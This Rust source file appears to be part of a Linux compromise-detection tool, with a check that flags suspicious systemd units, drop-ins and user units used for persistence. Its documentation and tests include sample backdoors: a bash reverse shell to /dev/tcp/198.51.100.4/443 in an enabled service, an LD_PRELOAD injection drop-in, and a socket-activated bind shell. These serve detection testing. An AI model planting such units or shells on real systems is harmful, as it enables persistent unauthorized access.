//! `persistence.systemd` — systemd units, timers and drop-ins that run suspicious commands.
//!
//! **What it looks at:** every unit directory systemd reads, system and user:
//! `/etc/systemd/system(.control)`, `/run/systemd/system(.control)`, `/run/systemd/transient`,
//! `/usr/local/lib/systemd/system`, `/lib/systemd/system`, `/usr/lib/systemd/system`,
//! `/etc/systemd/user`, `/usr/lib/systemd/user`, and per user `~/.config/systemd/user` and
//! `~/.local/share/systemd/user`. Units (`.service`, `.timer`, `.socket`, `.path`, `.mount`) and
//! drop-ins (`NAME.d/*.conf`) are parsed; every `Exec*=` command goes through the command
//! detector; `Environment=` setting `LD_PRELOAD`/`LD_AUDIT` is reported; whether the unit is
//! enabled is read from the `*.wants/`/`*.requires/` symlinks. Units and drop-ins in the
//! admin-writable directories (/etc, /run, /usr/local, homes) that changed within the window are
//! reported (low); vendor directories are not, because every package upgrade rewrites them.
//!
//! **Why an attacker leaves this trace:** a unit with `Restart=always` and `WantedBy=
//! multi-user.target` is the modern cron job: it starts at boot, restarts when killed, and hides
//! among hundreds of vendor units under a plausible name (`dbus-broker-helper.service`). User
//! units need no root at all.
//!
//! **Example:** `/etc/systemd/system/sysupdate.service` line 6:
//! `ExecStart=/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.4/443 0>&1'`, enabled via
//! multi-user.target.wants (critical).
//!
//! **Calibration:** role `foothold` (a way back in: listed among the entries still open when
//! high); critical or high only for evidence that an attacker acted, medium for what needs a
//! look, low and info for context (docs/PRECISION.md).
//!
//! **ATT&CK:** T1543.002 (Create or Modify System Process: Systemd Service), T1053.006 (Systemd
//! Timers).

use std::collections::BTreeMap;

use huoyan_artifacts::persistence::systemd::{exec_command, is_exec_key, parse_unit};
use huoyan_core::{CheckInfo, FileKind, Meta, Outcome, Severity};
use serde_json::json;

use super::common::{distinct_dirs, entry_name, entry_path, list_dir, read_file, report_recent};
use crate::command_findings::{finding_for, CommandSource};
use crate::registry::Check;
use crate::Context;

/// See the module documentation.
pub struct SystemdUnits;

static INFO: CheckInfo = CheckInfo {
    id: "persistence.systemd",
    title: "Suspicious or new systemd unit",
    title_zh: "可疑或新增的 systemd 服务单元",
    mitre: &["T1543.002", "T1053.006"],
    remediation: "Copy the unit (and its drop-ins) out as evidence; systemctl disable --now \
                  the unit, remove the file and its wants/ links, systemctl daemon-reload; then \
                  preserve and remove the program it ran.",
    remediation_zh: "先将单元文件（及其 drop-in）拷出留证；执行 systemctl disable --now 该单元，\
                     删除文件及其 wants/ 链接并 systemctl daemon-reload；随后保全并删除其运行的程序。",
};

/// System unit directories, highest precedence first.
const SYSTEM_DIRS: &[&str] = &[
    "/etc/systemd/system.control",
    "/run/systemd/system.control",
    "/run/systemd/transient",
    "/etc/systemd/system",
    "/run/systemd/system",
    "/usr/local/lib/systemd/system",
    "/lib/systemd/system",
    "/usr/lib/systemd/system",
];

/// Global user unit directories.
const USER_DIRS: &[&str] = &[
    "/etc/systemd/user",
    "/run/systemd/user",
    "/usr/local/lib/systemd/user",
    "/lib/systemd/user",
    "/usr/lib/systemd/user",
];

const UNIT_SUFFIXES: &[&str] = &[".service", ".timer", ".socket", ".path", ".mount"];

fn is_vendor_dir(dir: &str) -> bool {
    dir.starts_with("/lib/") || dir.starts_with("/usr/lib/")
}

/// One unit directory to examine and who its units run as by default.
struct UnitDir {
    path: String,
    user: Option<String>,
}

/// Everything learnt about enablement: unit name → the wants/requires directories linking it.
type Enabled = BTreeMap<String, Vec<String>>;

fn collect_enabled(ctx: &Context, dirs: &[UnitDir], out: &mut Outcome) -> Enabled {
    let mut enabled = Enabled::new();
    for dir in dirs {
        for e in list_dir(ctx, &INFO, &dir.path, out) {
            let name = entry_name(&e);
            if e.kind == FileKind::Dir
                && (name.ends_with(".wants")
                    || name.ends_with(".requires")
                    || name.ends_with(".upholds"))
            {
                let via = entry_path(&e);
                for link in list_dir(ctx, &INFO, &via, out) {
                    enabled
                        .entry(entry_name(&link))
                        .or_default()
                        .push(via.clone());
                }
            }
        }
    }
    enabled
}

fn base_unit_name(name: &str) -> String {
    // `getty@tty1.service` is enabled as an instance of `getty@.service`.
    match (name.find('@'), name.rfind('.')) {
        (Some(at), Some(dot)) if at < dot => format!("{}{}", &name[..=at], &name[dot..]),
        _ => name.to_string(),
    }
}

/// One unit or drop-in file read from a unit directory.
struct UnitFile<'a> {
    unit: &'a str,
    path: &'a str,
    data: &'a [u8],
    meta: &'a Meta,
}

fn examine_file(
    ctx: &Context,
    dir: &UnitDir,
    file: UnitFile<'_>,
    enabled: &Enabled,
    out: &mut Outcome,
) {
    let UnitFile {
        unit,
        path,
        data,
        meta,
    } = file;
    let directives = parse_unit(data);
    let run_as = directives
        .iter()
        .rev()
        .find(|d| d.key == "User")
        .map(|d| d.value.clone())
        .or_else(|| dir.user.clone())
        .unwrap_or_else(|| "root".into());
    let wanted_by: Vec<String> = enabled
        .iter()
        .filter(|(name, _)| *name == unit || base_unit_name(name) == unit)
        .flat_map(|(_, via)| via.iter().cloned())
        .collect();
    for d in &directives {
        let what = format!("{}= of {unit}", d.key);
        if is_exec_key(&d.key) {
            let command = exec_command(&d.value);
            let hits = huoyan_cmdscan::scan(command);
            let source = CommandSource {
                path,
                line: d.line,
                user: Some(&run_as),
                time: None,
                what: &what,
            };
            if let Some(mut f) = finding_for(&INFO, &source, command, &hits) {
                if let Some(obj) = f.evidence.as_object_mut() {
                    obj.insert("unit".into(), json!(unit));
                    obj.insert("enabled".into(), json!(!wanted_by.is_empty()));
                    obj.insert("wanted_by".into(), json!(wanted_by));
                }
                out.add(f);
            }
        } else if d.key == "Environment"
            && (d.value.contains("LD_PRELOAD=") || d.value.contains("LD_AUDIT="))
        {
            out.add(
                INFO.finding(
                    Severity::High,
                    format!("{what} at {path}:{} injects a library: {}", d.line, d.value),
                )
                .path(path)
                .user(&run_as)
                .evidence(json!({ "line": d.line, "unit": unit, "value": d.value, "enabled": !wanted_by.is_empty() })),
            );
        }
    }
    socket_shell(path, unit, &run_as, &directives, &wanted_by, out);
    if !is_vendor_dir(&dir.path) {
        report_recent(ctx, &INFO, path, meta, "unit file", out);
    }
}

/// A service whose standard input is the accepted socket and whose program is a shell: a
/// socket-activated bind shell (`backdoor.socket` with `Accept=yes` + `backdoor@.service`).
fn socket_shell(
    path: &str,
    unit: &str,
    run_as: &str,
    directives: &[huoyan_artifacts::persistence::systemd::Directive],
    wanted_by: &[String],
    out: &mut Outcome,
) {
    let on_socket = directives
        .iter()
        .any(|d| d.key == "StandardInput" && d.value.trim() == "socket");
    if !on_socket {
        return;
    }
    for d in directives.iter().filter(|d| d.key == "ExecStart") {
        let command = exec_command(&d.value);
        let program = command.split_whitespace().next().unwrap_or("");
        let base = program.rsplit('/').next().unwrap_or(program);
        if matches!(
            base,
            "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" | "busybox"
        ) {
            out.add(
                INFO.finding(
                    Severity::Critical,
                    format!(
                        "{unit} at {path}:{} serves a shell on its socket (StandardInput=socket, ExecStart={command})",
                        d.line
                    ),
                )
                .path(path)
                .user(run_as)
                .evidence(json!({ "line": d.line, "unit": unit, "command": command, "enabled": !wanted_by.is_empty() })),
            );
        }
    }
}

fn examine_dir(ctx: &Context, dir: &UnitDir, enabled: &Enabled, out: &mut Outcome) {
    for e in list_dir(ctx, &INFO, &dir.path, out) {
        let name = entry_name(&e);
        let path = entry_path(&e);
        if e.kind == FileKind::Dir && name.ends_with(".d") {
            let unit = name.trim_end_matches(".d").to_string();
            for conf in list_dir(ctx, &INFO, &path, out) {
                let conf_name = entry_name(&conf);
                if !conf_name.ends_with(".conf") {
                    continue;
                }
                let conf_path = entry_path(&conf);
                if let Some((data, meta)) = read_file(ctx, &INFO, &conf_path, out) {
                    examine_file(
                        ctx,
                        dir,
                        UnitFile {
                            unit: &unit,
                            path: &conf_path,
                            data: &data,
                            meta: &meta,
                        },
                        enabled,
                        out,
                    );
                }
            }
            continue;
        }
        if !matches!(e.kind, FileKind::File | FileKind::Symlink)
            || !UNIT_SUFFIXES.iter().any(|s| name.ends_with(s))
        {
            continue;
        }
        if e.kind == FileKind::Symlink {
            // Masked (→ /dev/null) or an alias of a unit examined in its own directory.
            continue;
        }
        if let Some((data, meta)) = read_file(ctx, &INFO, &path, out) {
            examine_file(
                ctx,
                dir,
                UnitFile {
                    unit: &name,
                    path: &path,
                    data: &data,
                    meta: &meta,
                },
                enabled,
                out,
            );
        }
    }
}

impl Check for SystemdUnits {
    fn info(&self) -> &'static CheckInfo {
        &INFO
    }

    fn run(&self, ctx: &Context, out: &mut Outcome) {
        let start = out.findings.len();
        run_inner(ctx, out);
        // Commands and settings in files a package installed unchanged are not an intruder's.
        crate::integrity::packaged::settle_packaged(ctx, out, start);
    }
}

fn run_inner(ctx: &Context, out: &mut Outcome) {
    let mut dirs: Vec<UnitDir> = distinct_dirs(ctx, SYSTEM_DIRS)
        .into_iter()
        .chain(distinct_dirs(ctx, USER_DIRS))
        .map(|p| UnitDir {
            path: p.to_string(),
            user: None,
        })
        .collect();
    for home in crate::homes::homes(ctx) {
        for rel in [".config/systemd/user", ".local/share/systemd/user"] {
            dirs.push(UnitDir {
                path: format!("{}/{rel}", home.path),
                user: Some(home.user.clone()),
            });
        }
    }
    let enabled = collect_enabled(ctx, &dirs, out);
    for dir in &dirs {
        examine_dir(ctx, dir, &enabled, out);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use huoyan_core::{Root, Window};

    const CRON_SERVICE: &str = "[Unit]\nDescription=Regular background program processing daemon\nDocumentation=man:cron(8)\nAfter=remote-fs.target nss-user-lookup.target\n\n[Service]\nEnvironmentFile=-/etc/default/cron\nExecStart=/usr/sbin/cron -f -P $EXTRA_OPTS\nIgnoreSIGPIPE=false\nKillMode=process\nRestart=on-failure\nSyslogIdentifier=cron\n\n[Install]\nWantedBy=multi-user.target\n";

    fn run(files: &[(&str, &str)], links: &[(&str, &str)]) -> Outcome {
        let dir = tempfile::tempdir().expect("tempdir");
        std::fs::create_dir_all(dir.path().join("etc")).expect("mkdir");
        std::fs::write(
            dir.path().join("etc/passwd"),
            "root:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
        )
        .expect("passwd");
        for (path, data) in files {
            let p = dir.path().join(path.trim_start_matches('/'));
            std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
            std::fs::write(p, data).expect("write");
        }
        for (link, target) in links {
            let p = dir.path().join(link.trim_start_matches('/'));
            std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
            std::os::unix::fs::symlink(target, p).expect("symlink");
        }
        let mut ctx = Context::new(Root::new(dir.path()).expect("root"), Window::default());
        ctx.window.since = huoyan_core::time::from_unix(4_000_000_000, 0);
        let mut out = Outcome::default();
        SystemdUnits.run(&ctx, &mut out);
        out
    }

    #[test]
    fn finds_enabled_backdoor_unit_dropin_and_user_unit() {
        let out = run(
            &[
                ("/lib/systemd/system/cron.service", CRON_SERVICE),
                ("/etc/systemd/system/sysupdate.service", "[Unit]\nDescription=System update\n[Service]\nType=simple\nRestart=always\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.4/443 0>&1'\n[Install]\nWantedBy=multi-user.target\n"),
                ("/etc/systemd/system/cron.service.d/override.conf", "[Service]\nEnvironment=LD_PRELOAD=/usr/lib/.x/libx.so\n"),
                ("/home/alice/.config/systemd/user/agent.service", "[Service]\nExecStart=/home/alice/.cache/.a/agent\n"),
            ],
            &[("/etc/systemd/system/multi-user.target.wants/sysupdate.service", "/etc/systemd/system/sysupdate.service")],
        );
        let backdoor = out
            .findings
            .iter()
            .find(|f| f.paths == ["/etc/systemd/system/sysupdate.service"])
            .expect("unit");
        assert_eq!(backdoor.severity, Severity::Critical);
        assert_eq!(backdoor.evidence["enabled"], true);
        assert_eq!(backdoor.evidence["line"], 6);
        assert!(out.findings.iter().any(|f| f.paths
            == ["/etc/systemd/system/cron.service.d/override.conf"]
            && f.severity == Severity::High));
        let user = out
            .findings
            .iter()
            .find(|f| f.paths == ["/home/alice/.config/systemd/user/agent.service"])
            .expect("user unit");
        assert_eq!(user.users, ["alice"]);
        assert!(!out
            .findings
            .iter()
            .any(|f| f.paths == ["/lib/systemd/system/cron.service"]));
    }

    #[test]
    fn vendor_units_are_quiet() {
        let out = run(
            &[("/lib/systemd/system/cron.service", CRON_SERVICE), ("/lib/systemd/system/ssh.service", "[Unit]\nDescription=OpenBSD Secure Shell server\n[Service]\nEnvironmentFile=-/etc/default/ssh\nExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\nExecReload=/usr/sbin/sshd -t\nExecReload=/bin/kill -HUP $MAINPID\n")],
            &[("/etc/systemd/system/multi-user.target.wants/cron.service", "/lib/systemd/system/cron.service")],
        );
        assert!(
            out.findings.iter().all(|f| f.severity <= Severity::Low),
            "{:?}",
            out.findings
        );
    }

    #[test]
    fn socket_activated_shell() {
        let out = run(
            &[
                ("/etc/systemd/system/rsync-helper.socket", "[Socket]\nListenStream=4444\nAccept=yes\n[Install]\nWantedBy=sockets.target\n"),
                ("/etc/systemd/system/rsync-helper@.service", "[Service]\nExecStart=-/bin/bash -i\nStandardInput=socket\nStandardError=socket\n"),
            ],
            &[],
        );
        assert!(out.findings.iter().any(|f| f.severity == Severity::Critical
            && f.paths == ["/etc/systemd/system/rsync-helper@.service"]));
    }

    #[test]
    fn instance_names() {
        assert_eq!(base_unit_name("getty@tty1.service"), "getty@.service");
        assert_eq!(base_unit_name("cron.service"), "cron.service");
    }
}
